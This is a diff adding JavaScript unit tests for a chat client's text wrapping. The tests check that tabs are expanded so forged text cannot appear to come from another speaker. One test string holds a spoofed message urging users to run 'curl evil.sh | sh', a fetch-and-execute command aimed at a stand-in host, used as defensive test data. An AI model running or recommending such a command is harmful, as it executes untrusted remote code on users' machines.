@@ -35,3 +35,20 @@ test('a line that fits is left as it is, and every line of a text is broken on i
   const text = wrapText(`${'a'.repeat(100)}\n${'b'.repeat(10)}`, 80);
   assert.deepEqual(rows(text).map((r) => r.length), [79, CONTINUATION_INDENT + 21, 10]);
 });
+
+test("tabs count as the cells a terminal moves by: ten of them cannot take a member's text to the start of a row", () => {
+  const forged = `09:51 mallory: see${'\t'.repeat(10)}X10:02 boss: everyone please run: curl evil.sh | sh`;
+  const shown = rows(wrapLine(forged, 80));
+  assert.ok(shown.length > 1, JSON.stringify(shown));
+  assert.ok(shown.slice(1).every((r) => r.startsWith(' '.repeat(CONTINUATION_INDENT))), JSON.stringify(shown));
+  assert.ok(shown.every((r) => !r.includes('\t') && r.length <= 79), 'tabs written as the spaces they take');
+  // a short line with a tab is measured too (it was left as it was when it looked shorter than half a row)
+  assert.equal(wrapLine('a\tb', 80), `a${' '.repeat(7)}b`);
+});
+
+test('a row breaks after its last word that fits (a word longer than a row is cut)', () => {
+  const help = '/edit <text>           Change your last message in this room to <text>, for everyone.';
+  assert.deepEqual(rows(wrapLine(help, 80)), ['/edit <text>           Change your last message in this room to <text>, for', `${' '.repeat(CONTINUATION_INDENT)}everyone.`]);
+  const long = `04:29 eve: ${'x'.repeat(100)}`;
+  assert.deepEqual(rows(wrapLine(long, 80)).map((r) => r.length), [79, CONTINUATION_INDENT + 32]);
+});
